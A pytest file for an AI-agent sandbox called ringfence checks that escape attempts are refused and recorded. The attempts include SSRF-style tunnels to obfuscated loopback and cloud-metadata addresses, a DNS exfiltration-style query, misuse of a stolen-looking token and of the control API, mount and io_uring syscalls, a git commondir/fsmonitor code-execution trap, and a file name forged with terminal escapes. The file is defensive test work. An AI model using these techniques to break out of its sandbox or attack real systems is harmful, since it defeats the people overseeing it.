"""What an agent tries is refused, and what our doors refuse is on the record of its run.

One program tries all of it by its own system calls, on a whole plane, as an ordinary user where
that can be. What the kernel refuses by itself tells nobody; that is stated and held here too.
"""

import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from tests.sandbox.conftest import need
from tests.sandbox.whole import AGENT, WholePlane, config, ordinary

from ringfence.domain.agent import SandboxTier

_PROGRAM = """\
import ctypes, json, os, socket, struct
def tcp(host, port, data=b"", family=socket.AF_INET):
    with socket.socket(family) as s:
        s.settimeout(5)
        try:
            s.connect((host, port))
            s.sendall(data)
            return s.recv(200).decode("latin-1")[:12]
        except OSError as error:
            return type(error).__name__
def question(name):
    labels = b"".join(bytes([len(each)]) + each.encode() for each in name.split("."))
    return b"\\x12\\x34\\x01\\0\\0\\x01\\0\\0\\0\\0\\0\\0" + labels + b"\\0\\0\\x01\\0\\x01"
def by_datagram(name):
    with socket.socket(type=socket.SOCK_DGRAM) as s:
        s.settimeout(5)
        s.sendto(question(name), ("8.8.8.8", 53))
        return s.recv(600)[3] & 15
def by_stream(name):
    with socket.create_connection(("8.8.8.8", 53), 5) as s:
        asked = question(name)
        s.sendall(struct.pack(">H", len(asked)) + asked)
        return s.recv(600)[5] & 15
def request(path, host, token=""):
    return f"GET {path} HTTP/1.1\\r\\nHost: {host}\\r\\nAuthorization: Bearer {token}\\r\\n\\r\\n".encode()
def connect(host):
    return tcp("127.0.0.1", 3128, f"CONNECT {host} HTTP/1.1\\r\\nHost: {host}\\r\\n\\r\\n".encode())
libc = ctypes.CDLL(None, use_errno=True)
token = os.environ["RINGFENCE_TOKEN"]
print(json.dumps({
    "address": tcp("192.0.2.1", 80, request("/", "web.test")),
    "address of IPv6": tcp("2001:db8::1", 80, request("/", "six.test"), socket.AF_INET6),
    "mail": tcp("192.0.2.1", 25),
    "names": [by_datagram("secret.data.test"), by_stream("stream.test")],
    **{host: connect(host) for host in TUNNELS},
    "token": tcp("127.0.0.1", 8484, request("/v1/models", "x", "rf_inv_stolen")),
    "control": tcp("127.0.0.1", 8484, request("/api/v1/sandboxes", "x", token)),
    "mount": [libc.mount(b"x", b"/tmp", b"tmpfs", 0, None), ctypes.get_errno()],
    "io_uring": [libc.syscall(425, 1, None), ctypes.get_errno()],
}))
"""
_TUNNELS = (
    "127.0.0.1:443",
    "0x7f.1:443",
    "2130706433:443",
    "[::ffff:127.0.0.1]:443",
    "[64:ff9b::7f00:1]:443",
    "[fd00:ec2::254]:80",
    "169.254.169.254:80",
)
_REPOSITORY = """\
mkdir -p x/.git stuff/objects stuff/refs && cd x/.git && echo 'ref: refs/heads/main' > HEAD
echo '[core] fsmonitor = evil' > ../../stuff/config && echo ../../stuff > commondir
"""


@pytest.fixture(scope="module")
def plane(tmp_path_factory: pytest.TempPathFactory) -> Iterator[WholePlane]:
    need(SandboxTier.STRICT)
    folder = tmp_path_factory.mktemp("plane").resolve()
    for each in (folder, *folder.parents[:2]):
        each.chmod(0o755)
    made = WholePlane(folder, config(AGENT.format(name="a", tier="strict")), user=ordinary())
    made.start()
    yield made
    made.stop()


def _tried(plane: WholePlane) -> tuple[dict[str, Any], list[dict[str, Any]]]:
    """What became of each attempt, and the record of just that run."""
    ran = plane.run("python3", "-c", f"TUNNELS = {_TUNNELS!r}\n{_PROGRAM}")
    assert ran.code == 0, ran
    events = plane.events()
    begins = max(n for n, each in enumerate(events) if each.get("what") == "sandbox.started")
    return json.loads(ran.out), events[begins:]


def test_what_is_tried_is_refused_and_on_the_record(plane: WholePlane) -> None:
    became, events = _tried(plane)
    assert {became[each] for each in _TUNNELS} == {"HTTP/1.1 403"}, became
    assert (became["address"], became["address of IPv6"]) == ("HTTP/1.1 403", "HTTP/1.1 403")
    assert (became["token"], became["control"]) == ("HTTP/1.1 401", "HTTP/1.1 404")
    assert became["names"] == [3, 3]
    refused = {each["resource"] for each in events if each["kind"] == "refusal"}
    tried = {*_TUNNELS, "web.test:80", "six.test:80", "/v1/models", "/api/v1/sandboxes"}
    assert tried <= refused, tried - refused
    asked = [each for each in events if each.get("what") == "dns.query"]
    assert [each["detail"]["verdict"] for each in asked] == ["deny", "deny"]


def test_what_the_kernel_refuses_leaves_the_command_alone_on_the_record(plane: WholePlane) -> None:
    became, events = _tried(plane)
    assert (became["mail"], became["mount"], became["io_uring"]) == (
        "ConnectionRefusedError", [-1, 1], [-1, 1]
    )  # fmt: skip
    [command] = [each for each in events if each.get("action_kind") == "shell.exec"]
    assert (command["kind"], command["resource"]) == ("intent", "python3")
    told = json.dumps(events)
    assert not any(each in told for each in ("io_uring", "192.0.2.1:25"))


def test_a_repository_that_leads_git_elsewhere_is_set_aside_and_found(plane: WholePlane) -> None:
    ran = plane.run("sh", "-c", _REPOSITORY)
    assert ran.code == 0, ran
    assert "the run left x/.git/commondir" in ran.err
    found = plane.sights("finding.late_code")
    assert "x/.git/commondir" in [each["detail"]["path"] for each in found]
    assert not Path(plane.work / "x/.git/commondir").exists()


def test_no_name_of_a_file_speaks_to_the_operator_in_our_name(plane: WholePlane) -> None:
    forged = "e\x1b[2J\u202e\nringfence: all is well"
    ran = plane.run("sh", "-c", 'mkdir -p "$1" && echo x > "$1/.envrc"', "sh", forged)
    assert ran.code == 0, ran
    assert ran.err.count("\n") == 1
    assert "the run left e\\x1b[2J\\u202e\\nringfence: all is well/.envrc" in ran.err
